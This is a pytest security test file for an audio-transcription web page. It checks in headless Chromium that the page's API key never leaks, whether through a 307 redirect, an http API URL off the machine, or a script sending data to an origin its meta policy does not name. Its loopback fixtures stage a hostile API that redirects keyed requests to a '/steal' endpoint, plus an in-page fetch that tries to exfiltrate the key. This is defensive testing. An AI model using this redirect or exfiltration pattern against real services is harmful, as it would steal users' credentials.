"""The page keeps its key on every path (issue #28): against a hostile API on loopback in headless Chromium,
a keyed POST /predict answered with a 307 to another origin never carries the key there (fetch refuses the
redirect; XMLHttpRequest would follow it, key and all); an http API URL off this machine is refused; and
the page's own `<meta>` policy, as `make page` writes it, keeps every request to the origins it names
where the host sends no header."""

from __future__ import annotations

import functools
import json
import threading
import urllib.request
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.support.ui import WebDriverWait

from inference.testing import signals
from operations import page as page_command
from tests.support.audio import wav_bytes
from tests.support.browser import launch_chromium

KEY = "PAGE-SECRET-KEY"


class Recorder:
    def __init__(self) -> None:
        self.seen: list[tuple[str, str, dict[str, str]]] = []


def serve(handler: type[BaseHTTPRequestHandler], host: str) -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer((host, 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture()
def elsewhere() -> Iterator[tuple[ThreadingHTTPServer, Recorder]]:
    """Another host (127.0.0.2) that records what reaches it."""
    record = Recorder()

    class Handler(BaseHTTPRequestHandler):
        def _any(self) -> None:
            record.seen.append((self.command, self.path, {k.lower(): v for k, v in self.headers.items()}))
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Access-Control-Allow-Headers", "*")
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"{}")

        do_GET = do_POST = do_OPTIONS = _any

        def log_message(self, *_: object) -> None:
            pass

    yield from ((server, record) for server in serve(Handler, "127.0.0.2"))


@pytest.fixture()
def hostile_api(elsewhere: tuple[ThreadingHTTPServer, Recorder]) -> Iterator[tuple[ThreadingHTTPServer, Recorder]]:
    """An API that answers the preflight as an API would, then redirects the keyed POST to `elsewhere`."""
    target = f"http://127.0.0.2:{elsewhere[0].server_address[1]}/steal"
    record = Recorder()

    class Handler(BaseHTTPRequestHandler):
        def cors(self) -> None:
            self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
            self.send_header("Access-Control-Allow-Headers", "x-api-key, content-type")
            self.send_header("Access-Control-Allow-Methods", "GET, POST, OPTIONS")

        def do_OPTIONS(self) -> None:
            record.seen.append(("OPTIONS", self.path, {}))
            self.send_response(204)
            self.cors()
            self.end_headers()

        def do_GET(self) -> None:  # /health: one model
            body = json.dumps({"status": "ok", "models": [{"name": "basic-pitch", "version": "0.4.0"}]}).encode()
            self.send_response(200)
            self.cors()
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            self.rfile.read(length)
            record.seen.append(("POST", self.path, {k.lower(): v for k, v in self.headers.items()}))
            self.send_response(307)
            self.cors()
            self.send_header("Location", target)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    yield from ((server, record) for server in serve(Handler, "127.0.0.1"))


@pytest.fixture()
def host_page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[list[str]], str]]:
    """The page as `make page` writes it (its `<meta>` policy naming `connect_origins`), served plainly on a
    third origin by a host that sends no header at all, as a static host may."""
    hosts: list[Iterator[ThreadingHTTPServer]] = []

    def host(connect_origins: list[str]) -> str:
        root = tmp_path_factory.mktemp("site")
        page_command.write_page(root, connect_origins)
        handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
        handler.log_message = lambda *_: None  # type: ignore[attr-defined]
        hosts.append(serve(handler, "127.0.0.1"))  # type: ignore[arg-type]
        return f"http://127.0.0.1:{next(hosts[-1]).server_address[1]}"

    yield host
    for server in hosts:
        next(server, None)


@pytest.fixture()
def browser() -> Iterator[WebDriver]:
    driver = launch_chromium()
    try:
        yield driver
    finally:
        driver.quit()


def use_api(browser: WebDriver, page: str, api_url: str) -> None:
    browser.get(f"{page}/")
    browser.find_element(By.CSS_SELECTOR, "#settings summary").click()
    url = browser.find_element(By.ID, "api-url")
    url.clear()
    url.send_keys(api_url)
    browser.find_element(By.ID, "api-key").send_keys(KEY)
    for field in ("api-url", "api-key"):
        browser.execute_script(f"document.getElementById('{field}').dispatchEvent(new Event('change'))")


def choose_clip(browser: WebDriver, tmp_path: Path) -> None:
    clip = tmp_path / "clip.wav"
    clip.write_bytes(wav_bytes(signals.render(signals.chords(1, 1.0), 22050, 1.0, seed=1), 22050))
    browser.find_element(By.ID, "file").send_keys(str(clip))


def test_a_redirect_from_the_api_never_carries_the_key_elsewhere(
    browser: WebDriver,
    host_page: Callable[[list[str]], str],
    hostile_api: tuple[ThreadingHTTPServer, Recorder],
    elsewhere: tuple[ThreadingHTTPServer, Recorder],
    tmp_path: Path,
) -> None:
    api_server, api_seen = hostile_api
    api_url = f"http://127.0.0.1:{api_server.server_address[1]}"
    # Both origins named: what keeps the key here is the upload's own redirect rule, not the policy.
    page_origin = host_page([api_url, f"http://127.0.0.2:{elsewhere[0].server_address[1]}"])
    use_api(browser, page_origin, api_url)
    choose_clip(browser, tmp_path)
    WebDriverWait(browser, 30).until(lambda b: not b.find_element(By.ID, "error").get_attribute("hidden"))
    posts = [seen for seen in api_seen.seen if seen[0] == "POST"]
    assert posts and posts[0][2].get("x-api-key") == KEY  # the API itself got the key, and redirected
    _, elsewhere_seen = elsewhere
    assert all(headers.get("x-api-key") != KEY for _, _, headers in elsewhere_seen.seen), elsewhere_seen.seen
    assert [seen for seen in elsewhere_seen.seen if seen[0] == "POST"] == []


def test_an_http_api_off_this_machine_is_refused(
    browser: WebDriver, host_page: Callable[[list[str]], str], tmp_path: Path
) -> None:
    use_api(browser, host_page([]), "http://api.example.com/v1")
    choose_clip(browser, tmp_path)
    WebDriverWait(browser, 30).until(lambda b: not b.find_element(By.ID, "error").get_attribute("hidden"))
    assert "https" in browser.find_element(By.ID, "error").text


FETCH = """
const [url, method, key, done] = arguments;
fetch(url, {method, headers: {"x-api-key": key}, body: method === "POST" ? "{}" : undefined})
  .then(r => done("reached " + r.status), e => done("refused " + e.name));
"""


def test_the_page_carries_its_policy_where_the_host_sends_none(
    browser: WebDriver,
    host_page: Callable[[list[str]], str],
    hostile_api: tuple[ThreadingHTTPServer, Recorder],
    elsewhere: tuple[ThreadingHTTPServer, Recorder],
) -> None:
    """Even script running in the page (a compromised dependency, an injected tag) cannot send the key or
    the audio to an origin the page's `<meta>` does not name, though the host sends no header; the origin
    it names is reached."""
    named = f"http://127.0.0.1:{hostile_api[0].server_address[1]}"
    unnamed = f"http://127.0.0.2:{elsewhere[0].server_address[1]}/steal"
    page = host_page([named])
    with urllib.request.urlopen(f"{page}/", timeout=10) as answer:
        assert answer.headers.get("Content-Security-Policy") is None, "the host sends no policy"
    browser.get(f"{page}/")
    browser.set_script_timeout(30)
    assert browser.execute_async_script(FETCH, f"{named}/health", "GET", KEY) == "reached 200"
    assert browser.execute_async_script(FETCH, unnamed, "POST", KEY) == "refused TypeError"
    assert elsewhere[1].seen == [], "nothing reached an origin the page does not name"
